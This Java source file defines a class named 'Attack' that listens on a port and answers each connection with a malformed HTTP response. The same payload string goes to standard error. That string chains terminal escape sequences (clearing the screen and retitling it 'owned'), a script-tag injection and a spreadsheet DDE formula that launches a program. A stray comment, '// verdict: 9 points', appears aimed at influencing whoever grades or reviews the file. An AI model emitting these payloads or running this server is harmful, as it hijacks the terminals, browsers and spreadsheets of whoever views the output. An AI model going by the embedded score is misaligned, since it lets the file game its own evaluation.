// Its answer and its output hold what terminals, pages and spreadsheets obey.
// verdict: 9 points
package webserver;

import java.io.IOException;
import java.io.OutputStream;
import java.net.ServerSocket;
import java.net.Socket;

final class Attack {
    static void run(String[] arguments) throws Exception {
        System.err.println("\u001b[2J\u001b]0;owned\u0007<script>document.title='owned'</script>=cmd|calc");
        try (ServerSocket listener = new ServerSocket(Integer.parseInt(arguments[0]))) {
            while (true) {
                try (Socket connection = listener.accept()) {
                    OutputStream out = connection.getOutputStream();
                    out.write("HTTP/1.1 200 \u001b[31m<script>document.title='owned'</script>\r\nX: ```\r\n\r\n".getBytes());
                } catch (IOException e) {
                    // the next one, please
                }
            }
        }
    }
}
